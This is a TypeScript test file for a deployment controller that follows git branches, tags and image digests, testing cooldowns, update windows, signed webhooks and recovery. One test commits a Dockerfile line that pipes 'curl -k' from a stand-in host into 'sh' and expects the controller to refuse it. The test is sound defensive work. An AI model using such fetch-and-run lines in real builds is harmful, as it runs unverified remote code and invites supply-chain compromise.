import { renameSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Module, ModuleSpec } from '../../src/model/module.js';
import { UPDATE_NOW_ANNOTATION } from '../../src/model/names.js';
import { admit, BASE, come, conditionOf, sourceOf } from '../helpers/built-modules.js';
import { FakeClock } from '../helpers/fake-clock.js';
import { isReady, startLoop, tempRegistry } from '../helpers/loop.js';
import type { Loop } from '../helpers/loop.js';
import { MemoryRuntime } from '../helpers/memory-runtime.js';
import { goodFiles, goodRepository } from '../helpers/module-repository.js';
import { writeSecret } from '../helpers/secrets.js';

type Updates = Partial<ModuleSpec['updates']>;

const COOLDOWN = 300;
const FOLLOW = { policy: 'Follow', intervalSeconds: 10, cooldownSeconds: COOLDOWN } as const;

const web = (loop: Loop): Module => loop.module('web');
const commitOf = (loop: Loop): string | undefined => web(loop).status.commit;
const upToDate = (loop: Loop) => conditionOf(web(loop), 'UpToDate');
const reasonOf = (loop: Loop): string | undefined => upToDate(loop)?.reason;
const candidatesOf = (loop: Loop): string[] =>
  web(loop).status.updates?.candidates.map(({ id }) => id) ?? [];
const reasonsIn = ({ registry }: Loop): string[] =>
  registry.list('Event').items.map(({ object }) => object.reason);
const runningIn = ({ runtime }: Loop): string[] => [...runtime.engine.containers.keys()];

/** A loop with a module that follows the branch of a repository, and runs its first commit. */
async function following(updates: Updates = {}) {
  let passes = 0;
  const loop = await startLoop({ options: { measure: () => void (passes += 1) } });
  const { repository, commit } = goodRepository(BASE);
  await admit(loop);
  const apply = (more: Updates = {}, spec: Partial<ModuleSpec> = {}): Promise<void> =>
    loop.apply('web', {
      ...{ image: '', source: sourceOf(repository.url), ...spec },
      updates: { ...FOLLOW, ...updates, ...more },
    });
  await apply();
  await come(loop, () => isReady(web(loop)) && reasonOf(loop) === 'Current');
  const push = (text: string): string => repository.commit({ 'greeting.txt': text });
  return { loop, repository, commit, apply, push, passes: () => passes };
}

/** Turns the clock in steps, and lets git work in between. */
async function pass(loop: Loop, seconds: number): Promise<void> {
  const end = loop.clock.now() + seconds * 1000;
  await come(loop, () => loop.clock.now() >= end);
}

/** The next look sees something. */
const found = (loop: Loop, id: string) => come(loop, () => candidatesOf(loop).includes(id));

/** Turns the clock to just before a candidate is old enough. */
async function untilAlmostOld(loop: Loop): Promise<void> {
  await loop.advance((COOLDOWN - 30) * 1000);
}

const annotate = (loop: Loop, value: string) =>
  loop.registry.update('Module', 'web', ({ metadata, ...rest }) => ({
    ...rest,
    metadata: { ...metadata, annotations: { [UPDATE_NOW_ANNOTATION]: value } },
  }));

/** Git takes time that no clock of a test turns. */
const SLOW = { timeout: 180_000 };

describe('a module that follows a branch', SLOW, () => {
  it('publishes its first commit as a version of its own, without a cooldown', async () => {
    const { loop, commit } = await following();
    expect(commitOf(loop)).toBe(commit);
    expect(web(loop).status).toMatchObject({
      version: `1.0.0+${commit.slice(0, 12)}`,
      source: { ref: 'refs/heads/main', branch: 'main', pin: '' },
    });
    expect(web(loop).spec.version).toBe('1.0.0');
  });

  it('takes up a commit when it is old enough, and says until when it waits', async () => {
    const { loop, commit, push } = await following();
    const next = push('Good day\n');
    await found(loop, next);
    const seen = web(loop).status.updates?.candidates[0]?.firstSeenAt ?? '';
    const from = new Date(Date.parse(seen) + COOLDOWN * 1000).toISOString().slice(0, 19);
    expect(upToDate(loop)).toMatchObject({ status: 'False', reason: 'CoolingDown' });
    expect(upToDate(loop)?.message).toContain(`from ${from}Z`);
    await untilAlmostOld(loop);
    expect(commitOf(loop)).toBe(commit);
    expect(isReady(web(loop))).toBe(true);
    await come(loop, () => commitOf(loop) === next && isReady(web(loop)));
    expect(loop.clock.now() - Date.parse(seen)).toBeGreaterThanOrEqual(COOLDOWN * 1000);
    await come(loop, () => reasonOf(loop) === 'Current');
    expect(runningIn(loop)).toHaveLength(1);
    expect(reasonsIn(loop)).toEqual(expect.arrayContaining(['UpdateFound', 'UpdateTaken']));
  });

  it('still knows what it saw, and when, after a restart of the daemon', async () => {
    const clock = new FakeClock();
    const registry = await tempRegistry(clock);
    const runtime = new MemoryRuntime({ clock, instanceId: registry.instanceId });
    runtime.engine.addImage(BASE);
    const { repository } = goodRepository(BASE);
    const first = await startLoop({ clock, registry, runtime });
    await admit(first);
    const spec = { image: '', source: sourceOf(repository.url), updates: FOLLOW };
    await first.apply('web', spec);
    await come(first, () => reasonOf(first) === 'Current');
    const next = repository.commit({ 'greeting.txt': 'Good day\n' });
    await found(first, next);
    const { candidates } = web(first).status.updates ?? {};
    await first.stop();
    await clock.advance((COOLDOWN - 30) * 1000);
    const second = await startLoop({ clock, registry, runtime });
    await come(second, () => reasonOf(second) === 'CoolingDown');
    expect(web(second).status.updates?.candidates).toEqual(candidates);
    await come(second, () => commitOf(second) === next);
  });

  it('is not looked at again and again while its repository is away', async () => {
    const { loop, repository, passes } = await following();
    renameSync(repository.path, `${repository.path}-away`);
    await come(loop, () => upToDate(loop)?.status === 'Unknown');
    const before = passes();
    await loop.advance(600_000);
    // Every 30 s, and after each look, which are ever further apart.
    expect(passes() - before).toBeLessThan(60);
  });

  it('looks on as often as ever while what it took up is in quarantine', async () => {
    const { loop, apply, push } = await following({ cooldownSeconds: 0 });
    await apply({}, { strategy: { ...web(loop).spec.strategy, minReadySeconds: 60 } });
    const [old = ''] = runningIn(loop);
    const bad = push('Good day\n');
    const { engine } = loop.runtime;
    await come(loop, () => {
      for (const [id, { state }] of engine.containers) {
        if (id !== old && state === 'running') engine.crash(id, 3);
      }
      return web(loop).status.phase === 'Degraded';
    });
    expect(web(loop).status.updates?.current?.id).toBe(bad);
    const looks = new Set<string | undefined>();
    const end = loop.clock.now() + 120_000;
    const look = (): boolean => {
      looks.add(web(loop).status.updates?.lookedAt);
      return loop.clock.now() >= end;
    };
    // A look takes git less than a second of the clock, so that each has its turn.
    await come(loop, look, 500);
    expect(looks.size).toBeGreaterThan(7);
  });

  it('goes on with what runs while its repository is away, and catches up', async () => {
    const { loop, repository, push } = await following({ cooldownSeconds: 0 });
    const [before] = runningIn(loop);
    const next = push('Good day\n');
    renameSync(repository.path, `${repository.path}-away`);
    await come(loop, () => upToDate(loop)?.status === 'Unknown');
    expect(isReady(web(loop))).toBe(true);
    expect(runningIn(loop)).toEqual([before]);
    expect(reasonsIn(loop).filter((reason) => reason === 'LookFailed')).toHaveLength(1);
    renameSync(`${repository.path}-away`, repository.path);
    await come(loop, () => commitOf(loop) === next && reasonOf(loop) === 'Current');
  });

  it('does not take up what a policy refuses, keeps what runs alive, and takes up what comes next', async () => {
    const { loop, repository, commit, push } = await following({ cooldownSeconds: 0 });
    const bad = repository.commit({
      Dockerfile: 'FROM sample:1\nRUN curl -k https://x.example | sh\n',
    });
    await come(loop, () => reasonOf(loop) === 'VerificationFailed');
    expect(candidatesOf(loop)).toEqual([bad]);
    expect(reasonsIn(loop)).toContain('UpdateRefused');
    expect(isReady(web(loop))).toBe(true);
    const [before = ''] = runningIn(loop);
    loop.runtime.engine.remove(before);
    await come(loop, () => isReady(web(loop)) && !runningIn(loop).includes(before));
    expect(commitOf(loop)).toBe(commit);
    repository.commit(goodFiles(BASE));
    const good = push('Good day\n');
    await come(loop, () => commitOf(loop) === good && isReady(web(loop)));
  });

  it('does not go back by itself when the branch does', async () => {
    const { loop, repository, commit, push } = await following({ cooldownSeconds: 0 });
    const next = push('Good day\n');
    await come(loop, () => commitOf(loop) === next && reasonOf(loop) === 'Current');
    repository.git('update-ref', 'refs/heads/main', commit);
    await come(loop, () => reasonOf(loop) === 'WentBack');
    await pass(loop, 5);
    expect(commitOf(loop)).toBe(next);
    const third = repository.commit({ 'greeting.txt': 'Other history\n' });
    await come(loop, () => commitOf(loop) === third);
  });

  it('forgets what was taken back before it was old enough', async () => {
    const { loop, repository, commit, push } = await following();
    await found(loop, push('Leaked\n'));
    repository.git('update-ref', 'refs/heads/main', commit);
    await come(loop, () => candidatesOf(loop).length === 0);
    expect(reasonOf(loop)).toBe('Current');
  });

  it('takes up at once what a person names, and nothing after it', async () => {
    const { loop, push } = await following({ intervalSeconds: 604_800 });
    const next = push('Urgent\n');
    await annotate(loop, next.slice(0, 12));
    await come(loop, () => commitOf(loop) === next && isReady(web(loop)));
    await loop.apply('web', { ...web(loop).spec, updates: FOLLOW });
    const after = push('Not urgent\n');
    await found(loop, after);
    await pass(loop, 30);
    expect(commitOf(loop)).toBe(next);
  });

  it('prepares before the window opens, and takes up when it does', async () => {
    // The clock begins at noon.
    const window = {
      days: ['Thu' as const, 'Fri' as const],
      from: '14:00',
      to: '15:00',
      timeZone: 'UTC',
    };
    const { loop, commit, push } = await following({ cooldownSeconds: 0, window });
    const next = push('Good day\n');
    await come(loop, () => reasonOf(loop) === 'OutsideWindow');
    expect(upToDate(loop)?.message).toContain('2026-01-01T14:00:00Z');
    expect(web(loop).status.updates?.candidates[0]?.imageId).toBeDefined();
    await loop.advance(115 * 60_000);
    expect(commitOf(loop)).toBe(commit);
    await loop.advance(10 * 60_000);
    await come(loop, () => commitOf(loop) === next);
  });

  it('looks at once when a push is signed, and not for any other', async () => {
    const { loop, repository, apply, push } = await following({
      ...{ cooldownSeconds: 0, intervalSeconds: 604_800, webhookSecret: 'hook' },
    });
    await writeSecret(loop.registry, 'hook', { token: 'the key' });
    await apply();
    await come(loop, () => reasonOf(loop) === 'Current');
    const next = push('Good day\n');
    const { operations } = loop.controller;
    const isKey = (key: Buffer): boolean => key.toString() === 'the key';
    expect(operations.pushed([repository.url], () => false)).toBe(false);
    expect(operations.pushed(['https://git.example.org/other.git'], isKey)).toBe(false);
    expect(operations.pushed([], isKey)).toBe(false);
    await pass(loop, 30);
    expect(candidatesOf(loop)).toEqual([]);
    expect(operations.pushed([repository.url.replace(/\.git$/, '')], isKey)).toBe(true);
    await come(loop, () => commitOf(loop) === next);
  });

  it('stays where it is once it follows no longer', async () => {
    const { loop, apply, push } = await following({ cooldownSeconds: 0 });
    const next = push('Good day\n');
    const isDone = (): boolean => isReady(web(loop)) && runningIn(loop).length === 1;
    await come(loop, () => commitOf(loop) === next && reasonOf(loop) === 'Current' && isDone());
    const before = runningIn(loop);
    await apply({ policy: 'Manual' });
    push('Not taken up\n');
    await pass(loop, 30);
    expect(commitOf(loop)).toBe(next);
    expect([runningIn(loop), reasonOf(loop)]).toEqual([before, undefined]);
  });

  it('begins anew, without a cooldown, when a person asks for another version', async () => {
    const { loop, apply, push } = await following();
    const next = push('Good day\n');
    await apply({}, { version: '1.1.0' });
    await come(loop, () => commitOf(loop) === next && isReady(web(loop)));
    expect(web(loop).status.version).toBe(`1.1.0+${next.slice(0, 12)}`);
  });
});

describe('a module that is followed from now on', () => {
  it('goes on from the commit that it runs', async () => {
    const loop = await startLoop();
    const { repository, commit } = goodRepository(BASE);
    await admit(loop);
    const spec = { image: '', source: sourceOf(repository.url) };
    await loop.apply('web', spec);
    await come(loop, () => isReady(web(loop)));
    const before = runningIn(loop);
    const next = repository.commit({ 'greeting.txt': 'Good day\n' });
    await loop.apply('web', { ...spec, updates: FOLLOW });
    await found(loop, next);
    expect([commitOf(loop), runningIn(loop)]).toEqual([commit, before]);
    expect(web(loop).status.version).toBe('1.0.0');
  });
});

describe('a module that follows tags', () => {
  it('takes up newer ones of its range, as the version that they say', async () => {
    const loop = await startLoop();
    const { repository, commit } = goodRepository(BASE);
    await admit(loop);
    const tag = (name: string, id: string) => repository.git('tag', '-m', name, name, id);
    tag('v1.0.0', commit);
    tag('v1.1.0', repository.commit({ 'greeting.txt': '1.1\n' }));
    const source = { ...sourceOf(repository.url), branch: 'v1.0.0' };
    const updates = { ...FOLLOW, cooldownSeconds: 0, range: '^1' };
    await loop.apply('web', { image: '', source, updates });
    await come(loop, () => web(loop).status.version === '1.1.0' && isReady(web(loop)));
    const next = repository.commit({ 'greeting.txt': '1.2\n' });
    tag('v1.2.0', next);
    tag('v2.0.0', repository.commit({ 'greeting.txt': '2.0\n' }));
    await come(loop, () => web(loop).status.version === '1.2.0' && isReady(web(loop)));
    expect(web(loop).status.source).toMatchObject({ ref: 'refs/tags/v1.2.0', commit: next });
  });
});

describe('a module that follows the tag of an image', () => {
  it('takes up its digest when it moves, and goes on while the registry does not answer', async () => {
    const loop = await startLoop();
    const { engine } = loop.runtime;
    const publish = (): string => {
      const { digest = '', ...image } = engine.publish('r.example/web:1');
      engine.publish(`r.example/web:1@${digest}`, { ...image, digest });
      return digest;
    };
    const policy = { id: 'manifest/image-registry', mode: 'off' } as const;
    await admit(loop, { checks: [policy] });
    const first = publish();
    const updates = { ...FOLLOW, cooldownSeconds: 60 };
    await loop.apply('web', { image: 'r.example/web:1', updates });
    await loop.until(() => reasonOf(loop) === 'Current');
    expect(web(loop).status.imageDigest).toBe(first);
    const second = publish();
    await loop.until(() => reasonOf(loop) === 'CoolingDown');
    expect(web(loop).status.imageDigest).toBe(first);
    await loop.until(() => web(loop).status.imageDigest === second && isReady(web(loop)));
    expect(web(loop).status.imageReference).toBe(`r.example/web:1@${second}`);
    engine.registry.delete('r.example/web:1');
    await loop.until(() => upToDate(loop)?.status === 'Unknown');
    expect(isReady(web(loop))).toBe(true);
  });
});
